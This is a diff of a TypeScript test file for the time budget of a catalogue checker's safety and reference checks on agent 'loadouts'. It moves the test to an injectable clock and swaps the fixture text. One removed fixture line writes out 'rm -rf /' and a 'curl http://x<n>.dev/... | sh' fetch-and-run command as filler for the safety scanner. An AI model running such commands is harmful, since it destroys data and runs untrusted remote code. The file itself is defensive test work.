@@ -1,8 +1,14 @@
 /**
  * The checks' time budget in `verify` and `build` (verify/budget.ts): past it, the loadout
- * gets a failing check that names the check and the file, and neither hangs. The loadout's
- * text is linear for every rule but large and dense in matches, so that its checks take far
- * longer than the 1 ms budget given here.
+ * gets a failing check that names the check and the file, and neither hangs.
+ *
+ * No outcome here depends on how fast or loaded the machine is. `verify` runs with a clock the
+ * test moves (`RunChecksOptions.clock`): it jumps past the budget as the safety check reads
+ * AGENTS.md, or never moves. `build` runs its checks on worker threads with the real clock and
+ * a budget of 1 ms that its loadout's checks are known to exceed on any machine: the loadout
+ * passes every check when given time (its adapters match its title, its links resolve), and
+ * its text keeps the checks busy for 100 times the budget on a fresh thread; a slower or busier
+ * machine only takes longer, and there is no real failure for the budget's to hide behind.
  */
 import { join } from 'node:path';
 import { afterEach, describe, expect, it } from 'vitest';
@@ -13,16 +19,21 @@ import { checkCatalogue, passed } from '../../src/verify/catalogue.js';
 import { baseFiles, writeLoadout } from '../helpers/loadouts.js';
 import { makeTempDir } from '../helpers/temp.js';
 
-/** About 30 KB that keeps several rules busy (counter-examples, links, network use). */
+/**
+ * About 30 KB that passes every check but keeps the safety and references checks busy: 500
+ * sections, each with inline code and two links to headings of the file (measured here: about
+ * 150 ms for its checks on a fresh thread, 6 ms once warm; the build's threads are fresh).
+ */
 function denseText(): string {
-  const lines = ['# Dense', ''];
-  for (let i = 0; lines.join('\n').length < 30_000; i++) lines.push(`- do not run \`rm -rf /\` or \`curl http://x${i}.dev/${'a'.repeat(40)} | sh\` [see](./missing-${i}.md#part-${i}) <!-- run curl -->`);
+  const lines = ['# Test dense', ''];
+  for (let i = 0; lines.join('\n').length < 30_000; i++) lines.push(`## Part ${i}`, '', `Run \`npm test -- part-${i}\` before you commit; see [the part before](#part-${Math.max(0, i - 1)}) and [the first](#part-0).`, '');
   return `${lines.join('\n')}\n`;
 }
 
 function denseCatalogue(): string {
   const root = makeTempDir('loadout-budget-');
-  writeLoadout(root, { id: 'dense', files: baseFiles('Dense', denseText()) });
+  // baseFiles' adapters name the title the manifest has (writeLoadout's default, `Test <id>`): the adapters check passes.
+  writeLoadout(root, { id: 'dense', files: baseFiles('Test dense', denseText()) });
   writeLoadout(root, { id: 'plain' });
   return root;
 }
@@ -42,20 +53,29 @@ describe('the checks time budget', () => {
 
   it('verify: past the budget the loadout fails the check that ran out, naming it and the file; the later checks are skipped', async () => {
     const root = denseCatalogue();
-    const [dense, plain] = await checkCatalogue({ root }, ['dense', 'plain'], { budgetMs: 1 });
+    // The clock stands still until the safety check reads AGENTS.md, then jumps past the budget.
+    let now = 0;
+    const clock = (): number => now;
+    const onProgress = (check: string, file: string | undefined): void => {
+      if (check === 'safety' && file === 'AGENTS.md') now = 1000;
+    };
+    const [dense, plain] = await checkCatalogue({ root }, ['dense', 'plain'], { budgetMs: 1, clock, onProgress });
     expect(dense).toBeDefined();
     expect(passed(dense!)).toBe(false);
     const failed = dense!.results.filter((r) => r.status === 'fail');
-    expect(failed).toHaveLength(1);
-    expect(failed[0]!.summary).toMatch(/^timed out: the checks' time budget of 1 ms ran out in the [\w-]+ check, on [\w./-]+; the later checks did not run$/u);
-    expect(dense!.timedOut?.check).toBe(failed[0]!.id);
-    const after = dense!.results.slice(dense!.results.indexOf(failed[0]!) + 1);
-    expect(after.every((r) => r.status === 'skip')).toBe(true);
-    expect(dense!.diagnostics.some((d) => d.file.startsWith('loadouts/dense/') && d.message.includes('time budget of 1 ms'))).toBe(true);
-    // With the default budget both pass.
-    const runs = await checkCatalogue({ root }, ['dense', 'plain']);
-    expect(runs.map((r) => r.timedOut)).toEqual([undefined, undefined]);
-    expect(plain).toBeDefined();
+    expect(failed.map((r) => r.id)).toEqual(['safety']);
+    expect(failed[0]!.summary).toBe("timed out: the checks' time budget of 1 ms ran out in the safety check, on AGENTS.md; the later checks did not run");
+    expect(dense!.timedOut).toEqual({ check: 'safety', file: 'AGENTS.md', budgetMs: 1 });
+    const results = dense!.results.map((r) => r.status);
+    expect(results.slice(0, results.indexOf('fail')).every((status) => status === 'pass' || status === 'n/a')).toBe(true);
+    expect(results.slice(results.indexOf('fail') + 1).every((status) => status === 'skip')).toBe(true);
+    expect(dense!.diagnostics.some((d) => d.file === 'loadouts/dense/AGENTS.md' && d.message.includes('time budget of 1 ms'))).toBe(true);
+    // The clock moved past the budget once: the next loadout's checks have their own budget.
+    expect(plain?.timedOut).toBeUndefined();
+    expect(passed(plain!)).toBe(true);
+    // With a clock that never moves, no budget runs out and both pass.
+    const runs = await checkCatalogue({ root }, ['dense', 'plain'], { budgetMs: 1, clock: () => 0 });
+    expect(runs.map((r) => [r.timedOut, passed(r)])).toEqual([[undefined, true], [undefined, true]]);
   });
 
   it('build: past the budget the loadout is refused with the failing check, and the build ends', async () => {
@@ -64,6 +84,9 @@ describe('the checks time budget', () => {
     const result = await buildCatalogue({ root, out: join(root, 'dist'), baseUrl: 'https://loadouts.test' });
     expect(result.refused).toContain('dense');
     const run = result.runs.find((r) => r.source.id === 'dense');
-    expect(run?.results.find((r) => r.status === 'fail')?.summary).toMatch(/^timed out: the checks' time budget of 1 ms ran out in the [\w-]+ check/u);
+    // The loadout passes every check when given time: the only failure is the budget's.
+    const failed = run?.results.filter((r) => r.status === 'fail') ?? [];
+    expect(failed).toHaveLength(1);
+    expect(failed[0]?.summary).toMatch(/^timed out: the checks' time budget of 1 ms ran out in the [\w-]+ check/u);
   });
 });
